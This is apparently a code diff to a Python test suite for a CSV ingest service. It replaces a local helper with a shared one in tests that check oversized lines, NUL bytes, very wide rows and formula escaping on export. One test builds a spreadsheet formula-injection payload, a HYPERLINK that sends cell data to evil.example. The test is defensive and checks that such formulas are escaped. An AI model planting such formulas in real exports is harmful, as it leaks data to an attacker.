@@ -15,18 +15,16 @@ import uuid
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
-from uuid import UUID
 
 import asyncpg
 import httpx
 import pytest
 
 from scripts.drills import drillkit
-from server.placements import ingest
 from server.placements.column_map import default_column_map
 from tests import servers as test_servers
 from tests.fixtures import PASSWORD, Caller, MakeAccount, MakeClient, MakeUser
-from tests.placements.test_ingest import csv_bytes, good_row, upload
+from tests.placements.test_ingest import csv_bytes, good_row, upload, upload_and_load
 
 HEADER = list(default_column_map().columns)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -49,14 +47,6 @@ TABLES = ("account", "debtor", "app_user", "client", "placement", "call", "payme
 
 async def _counts(db: asyncpg.Connection) -> dict[str, int]:
     return {t: int(await db.fetchval(f"SELECT count(*) FROM {t}")) for t in TABLES}
-
-
-async def _load(caller: Caller, client_id: str, body: bytes) -> dict[str, Any]:
-    response = await upload(caller, client_id, body)
-    assert response.status_code == 202, response.text
-    placement_id = response.json()["placement_id"]
-    assert await ingest.load_placement(UUID(placement_id)) == "loaded"
-    return dict((await caller.get(f"/api/v1/placements/{placement_id}")).json())
 
 
 async def _errors(caller: Caller, placement_id: str) -> list[dict[str, Any]]:
@@ -150,7 +140,7 @@ def test_a_live_server_refuses_huge_headers_and_keeps_serving(live_api: str) -> 
 async def test_a_10_mb_line_is_refused_alone(admin: Caller, make_client: MakeClient) -> None:
     client = await make_client()
     rows = [good_row(1), good_row(2, last_name="L" * (10 << 20)), good_row(3)]
-    placement = await _load(admin, client["client_id"], csv_bytes(rows))
+    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
     assert (placement["rows_accepted"], placement["rows_rejected"]) == (2, 1)
     [error] = await _errors(admin, placement["placement_id"])
     assert (error["line"], error["code"]) == (3, "record_too_long")
@@ -161,7 +151,7 @@ async def test_nul_bytes_are_refused_per_row_and_in_json(
 ) -> None:
     client = await make_client()
     rows = [good_row(1, first_name="Ma\x00ria"), good_row(2), good_row(3, city="\x00")]
-    placement = await _load(admin, client["client_id"], csv_bytes(rows))
+    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
     assert (placement["rows_accepted"], placement["rows_rejected"]) == (1, 2)
     assert {e["code"] for e in await _errors(admin, placement["placement_id"])} == {"nul_byte"}
     # A NUL in the header refuses the file whole, and nothing is kept.
@@ -194,7 +184,7 @@ async def test_10_000_columns(admin: Caller, make_client: MakeClient) -> None:
     assert refused.json()["error"]["code"] == "too_many_columns"
     lines = csv_bytes([good_row(1), good_row(2)]).split(b"\r\n")
     lines.insert(2, b"WIDE" + b",x" * 10_000)
-    placement = await _load(admin, client["client_id"], b"\r\n".join(lines))
+    placement = await upload_and_load(admin, client["client_id"], b"\r\n".join(lines))
     assert (placement["rows_accepted"], placement["rows_rejected"]) == (2, 1)
     [error] = await _errors(admin, placement["placement_id"])
     assert error["code"] == "too_many_columns"
@@ -214,7 +204,7 @@ async def test_a_formula_in_every_text_cell_is_escaped_on_the_way_out(
     for n, start in enumerate(FORMULA_STARTS[:4]):
         formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
         rows.append(good_row(n, **{column: formula + str(n) for column in text_columns}))
-    placement = await _load(admin, client["client_id"], csv_bytes(rows))
+    placement = await upload_and_load(admin, client["client_id"], csv_bytes(rows))
     assert placement["rows_read"] == len(rows)
     downloads = [
         await admin.get(f"/api/v1/placements/{placement['placement_id']}/acknowledgement.csv"),
